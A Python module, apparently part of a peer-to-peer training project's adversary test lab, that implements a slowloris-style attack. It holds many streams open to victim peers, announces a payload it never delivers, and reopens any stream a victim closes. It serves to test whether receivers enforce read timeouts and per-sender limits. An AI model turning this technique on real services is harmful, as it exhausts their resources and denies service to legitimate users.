"""Streams that never end: a header, the length of a payload, then silence, held open.

Each stream is opened on the exchange protocol of an honest peer (`net/transport.py`), announces
a payload within the peer's size limit and sends a few bytes of it. A receiver without a read
timeout or a per-sender limit keeps every such stream, and what it holds for it, until the
attacker leaves; streams the peer closes are opened again.
"""

from __future__ import annotations

import asyncio
import functools
import logging
import os
import threading
from typing import Any

import hivemind
from hivemind.p2p import P2P, PeerID

from p2p_trainer.lab.adversary.attacks import Attack
from p2p_trainer.lab.adversary.node import every
from p2p_trainer.net.transport import PROTOCOL, Transport, encode_header

logger = logging.getLogger(__name__)

CLAIMED_BYTES = 1 << 20
"""The payload each stream announces: well under any peer's limit, never delivered."""
OPEN_TIMEOUT_S = 5.0
"""A victim not reachable yet (still starting) is tried again a second later."""


async def _open(transport: Transport, victim: str) -> Any:
    _, reader, writer = await transport.p2p.call_binary_stream_handler(PeerID.from_base58(victim), PROTOCOL)
    await P2P.send_raw_data(encode_header({"key": f"endless/{os.urandom(8).hex()}"}), writer)
    writer.write(CLAIMED_BYTES.to_bytes(P2P.HEADER_LEN, P2P.BYTEORDER) + b"\0" * 64)
    await writer.drain()
    return reader, writer


async def _ping(victims: list[str], _dht: hivemind.DHT, node: Any) -> None:
    """Ping the victims through the DHT, so this node's p2p daemon learns their addresses."""
    ids = [PeerID.from_base58(v) for v in victims]
    await asyncio.gather(
        *(node.protocol.call_ping(p, validate=False, strict=False) for p in ids), return_exceptions=True
    )


async def _top_up(transport: Transport, victim: str, held: list[Any], want: int) -> None:
    held[:] = [(r, w) for r, w in held if not (r.at_eof() or w.is_closing())]
    missing = want - len(held)
    opens = (asyncio.wait_for(_open(transport, victim), OPEN_TIMEOUT_S) for _ in range(missing))
    opened = await asyncio.gather(*opens, return_exceptions=True)
    failed = [s for s in opened if isinstance(s, BaseException)]
    if failed:
        logger.info("adversary: %d streams to %s failed: %r", len(failed), victim[-8:], failed[0])
    held.extend(s for s in opened if not isinstance(s, BaseException))


def hold_streams(
    dht: hivemind.DHT, transport: Transport, victims: list[str], attack: Attack, stop: threading.Event
) -> int:
    """Keep `attack.arg` endless streams open to each victim until `stop`; returns streams opened."""
    want, opened = int(attack.arg), 0
    held: dict[str, list[Any]] = {v: [] for v in victims}
    for tick in every(1.0, stop):
        if tick % 10 == 0:
            dht.run_coroutine(functools.partial(_ping, victims))
        for victim in victims:
            before = len(held[victim])
            try:
                transport.run(_top_up(transport, victim, held[victim], want), timeout_s=30)
            except Exception as exc:  # the victim may not be up yet, or refuse: try again
                logger.info("adversary: streams to %s: %s", victim[-8:], exc)
            opened += max(0, len(held[victim]) - before)
        if tick % 5 == 0:
            counts = ", ".join(f"{v[-8:]}={len(s)}" for v, s in held.items())
            logger.warning("adversary: holding endless streams: %s (%d opened)", counts, opened)
    return opened
